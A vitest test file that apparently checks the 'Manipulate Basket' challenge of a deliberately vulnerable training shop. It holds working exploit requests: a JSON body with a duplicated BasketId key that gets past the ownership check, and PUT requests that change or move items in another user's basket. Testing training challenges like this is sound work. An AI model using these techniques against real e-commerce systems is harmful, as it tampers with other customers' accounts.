import { afterEach, beforeEach, expect, test } from 'vitest';
import { startShop, type TestServer } from '../helpers';
import { as, basketOf, JIM, loginShopper, newShopper } from './basket-helpers';

// each attack on a shop of its own: the first solve would hide whether the second one solves
let s: TestServer;
beforeEach(async () => {
  s = await startShop();
});
afterEach(async () => s.close());

const solved = () => s.shop.challenges.isSolved('basketManipulateChallenge');

test("a plain POST into somebody else's basket is refused with upstream's answer and solves nothing", async () => {
  const me = await newShopper(s, 'plain');
  const jim = await loginShopper(s, JIM.email, JIM.password);
  const res = await s.get('/api/BasketItems', as(me, 'POST', { ProductId: 14, BasketId: String(jim.bid), quantity: 1 }));
  expect(res.status).toBe(401);
  expect(await res.text()).toBe("{'error' : 'Invalid BasketId'}");
  expect(await basketOf(s, jim)).toEqual([[4, 2]]);
  expect(solved()).toBe(false);
});

test('Manipulate Basket: a duplicate BasketId key passes the check with the own id and stores the item in the other basket', async () => {
  const me = await newShopper(s, 'attacker');
  const jim = await loginShopper(s, JIM.email, JIM.password);
  const raw = `{"ProductId":14,"BasketId":"${me.bid}","quantity":1,"BasketId":"${jim.bid}"}`;
  const r = await s.json('/api/BasketItems', as(me, 'POST', raw));
  expect(r.status).toBe(200);
  expect(r.body.data).toMatchObject({ ProductId: 14, BasketId: jim.bid, quantity: 1 });
  expect(await basketOf(s, jim)).toEqual([
    [4, 2],
    [14, 1],
  ]);
  expect(await basketOf(s, me)).toEqual([]);
  expect(solved()).toBe(true);
});

test('Manipulate Basket: PUT checks no ownership, and moving an own item into another basket solves the challenge', async () => {
  const me = await newShopper(s, 'mover');
  const jim = await loginShopper(s, JIM.email, JIM.password);
  const jimsItem = (await s.json(`/rest/basket/${jim.bid}`, as(jim))).body.data.Products[0].BasketItem.id as number;
  // raising the quantity of somebody else's item works (no ownership check) but does not count
  expect((await s.json(`/api/BasketItems/${jimsItem}`, as(me, 'PUT', { quantity: 3 }))).status).toBe(200);
  expect(await basketOf(s, jim)).toEqual([[4, 3]]);
  expect(solved()).toBe(false);

  const mine = (await s.json('/api/BasketItems', as(me, 'POST', { ProductId: 14, BasketId: me.bid, quantity: 1 }))).body.data.id as number;
  const moved = await s.json(`/api/BasketItems/${mine}`, as(me, 'PUT', { BasketId: String(jim.bid) }));
  expect(moved.status).toBe(200);
  expect(moved.body.data).toMatchObject({ id: mine, BasketId: jim.bid });
  expect(await basketOf(s, jim)).toEqual([
    [4, 3],
    [14, 1],
  ]);
  expect(solved()).toBe(true);
});
